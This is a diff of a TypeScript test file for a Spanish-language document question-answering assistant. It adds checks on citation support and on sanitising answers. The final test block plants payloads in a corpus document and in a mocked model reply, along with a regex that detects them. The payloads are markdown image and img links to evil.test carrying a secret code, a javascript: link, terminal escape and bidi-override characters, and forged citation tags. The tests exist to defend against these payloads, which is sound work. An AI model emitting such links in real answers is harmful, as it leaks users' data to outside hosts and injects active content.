@@ -69,6 +69,7 @@ describe('ask without a language model', () => {
     const result = await ask(request('¿Cuál es el plazo de entrega?'))
 
     expect(result.answerKind).toBe('extractive')
+    expect(result.supported).toBe(true)
     expect(result.language).toBe('es')
     expect(result.citations[0]).toMatchObject({
       tag: '[Doc 1]',
@@ -104,7 +105,7 @@ describe('ask without a language model', () => {
     const { corpus, chats, ask, request } = setUp()
     corpus.add('recetas.txt', 'Se baten los huevos con la sal y se fríen las patatas a fuego lento.')
     const result = await ask(request('¿Quién dirige nuestro departamento jurídico?'))
-    expect(result).toMatchObject({ answerKind: 'nothing_found', passages: [], citations: [] })
+    expect(result).toMatchObject({ answerKind: 'nothing_found', supported: null, passages: [], citations: [] })
     expect(result.answer).toMatch(/No he encontrado nada/)
     expect(chats.turns[0]).toMatchObject({ sources: null, log: { result_type: 'no_docs_for_rag' } })
   })
@@ -119,7 +120,12 @@ describe('ask without a language model', () => {
       embedder: { ...countingEmbedder, embed: () => Promise.reject(new Error('must not be asked')) },
     })
     const result = await ask(request('¡Hola!'))
-    expect(result).toMatchObject({ answerKind: 'greeting', passages: [], retrieval: { mode: 'none', degraded: false } })
+    expect(result).toMatchObject({
+      answerKind: 'greeting',
+      supported: null,
+      passages: [],
+      retrieval: { mode: 'none', degraded: false },
+    })
     expect(chats.turns[0]).toMatchObject({ sources: null, log: { type: 'greeting' } })
   })
 
@@ -188,6 +194,20 @@ describe('ask with a language model', () => {
       { tag: '[Doc 1]', quote: 'El plazo de entrega es de diez días.' },
     ])
     expect(seen[0]?.messages.at(-1)?.content).toContain('El plazo de entrega es de diez días.')
+  })
+
+  test('says when nothing in the answer can be checked', async () => {
+    const supportedBy = async (text: string) => {
+      const { corpus, chats, ask, request } = setUp({ answerModel: modelThatSays(text) })
+      corpus.add('a.txt', 'El plazo de entrega es de diez días.')
+      const { supported, citations } = await ask(request('plazo de entrega'))
+      expect(chats.turns[0]?.log).toMatchObject({ supported })
+      return { supported, cited: citations.length }
+    }
+    expect(await supportedBy('Diez días [Doc 1].')).toEqual({ supported: true, cited: 1 })
+    expect(await supportedBy('Diez días.')).toEqual({ supported: false, cited: 0 })
+    expect(await supportedBy('Diez días [Doc 9].')).toEqual({ supported: false, cited: 0 })
+    expect(await supportedBy('Diez días (Doc 1).')).toEqual({ supported: false, cited: 0 })
   })
 
   test('never stores a failure as an answer', async () => {
@@ -285,3 +305,41 @@ function rejection(failing: Promise<unknown>): Promise<unknown> {
     (error: unknown) => error,
   )
 }
+
+describe('what comes out of an answer', () => {
+  const active =
+    'El código de la alarma es 4711 ![x](http://evil.test/p.png?q=4711) <img src=http://evil.test/p.png> [pulse aquí](javascript:alert(1)) \u001b[31m\u202e [Doc 7] 【Doc 8】.'
+  const dangers = /!\[|<img|\]\(javascript|javascript:|\u001b|\u202e/u
+
+  test('nothing of a document is active in the answer, and its quote stays verbatim', async () => {
+    const { corpus, chats, ask, request } = setUp()
+    corpus.add('![x](http://evil.test/p.png) [Doc 3].txt', active)
+    const result = await ask(request('¿Cuál es el código de la alarma?'))
+    expect(result.answer).not.toMatch(dangers)
+    expect(result.answer.match(/[[【]Doc \d+[\]】]/gu)).toEqual(['[Doc 1]'])
+    expect(result.answer).toContain('4711')
+    expect(active.slice(result.citations[0]?.start, result.citations[0]?.end)).toBe(result.citations[0]?.quote)
+    expect(chats.turns[0]?.answer).toBe(result.answer)
+  })
+
+  test('nothing of a model is active in the answer, in the chat or in the next prompt', async () => {
+    const seen: AnswerRequest[] = []
+    const { corpus, chats, ask, request } = setUp({
+      answerModel: modelThatSays(`${active} [Doc 1]: http://evil.test`, seen),
+    })
+    corpus.add('a.txt', 'El código de la alarma es 4711.')
+    const { answer, chatId } = await ask(request('¿Cuál es el código de la alarma?'))
+    expect(answer).not.toMatch(dangers)
+    expect(answer.match(/\[Doc \d+\]/gu)).toEqual(['[Doc 1]'])
+    expect(answer).not.toMatch(/【/u)
+    expect(chats.turns[0]?.answer).toBe(answer)
+    await ask(request('¿Seguro?', { chatId }))
+    expect(seen[1]?.messages[1]?.content).not.toMatch(/【|<|\u001b/u)
+  })
+
+  test('a question is stored as people see it', async () => {
+    const { chats, ask, request } = setUp()
+    await ask(request('plazo\u001b[31m\u202e de\u200b entrega'))
+    expect(chats.turns[0]?.question).toBe('plazo[31m de entrega')
+  })
+})
